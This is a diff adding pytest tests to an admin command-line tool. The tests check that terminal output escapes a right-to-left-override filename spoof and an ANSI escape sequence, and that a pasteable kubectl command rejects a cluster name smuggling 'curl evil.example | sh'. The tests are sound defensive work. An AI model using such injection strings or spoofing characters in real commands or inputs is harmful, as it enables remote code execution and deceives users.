@@ -6,7 +6,8 @@ import sys
 import click
 import pytest
 
-from proxy.cli.admin.output import confirm
+from proxy.cli.admin.output import confirm, say, say_apply_rbac
+from proxy.cli.errors import CommandError
 
 
 class Terminal(io.StringIO):
@@ -35,3 +36,17 @@ def test_whoever_said_yes_and_a_program_are_not_asked(
     monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
     confirm("Remove it?", yes=False)
     assert capsys.readouterr() == ("", "")
+
+
+def test_what_is_said_is_made_safe_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
+    # The name of a pod, as `session kill` tells it.
+    say("killed get pods/log work/\u202egnp.exe\x1b[2J\n  next")
+    assert capsys.readouterr().err == "killed get pods/log work/\\u202egnp.exe\\x1b[2J\n  next\n"
+
+
+def test_a_command_to_be_pasted_names_a_cluster_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
+    say_apply_rbac({"apply_rbac": ["prod"]})
+    assert "hawse admin cluster rbac prod | kubectl" in capsys.readouterr().err
+    with pytest.raises(CommandError, match="a name that is refused"):
+        say_apply_rbac({"apply_rbac": ["prod", "x; curl evil.example | sh"]})
+    assert capsys.readouterr().err == ""
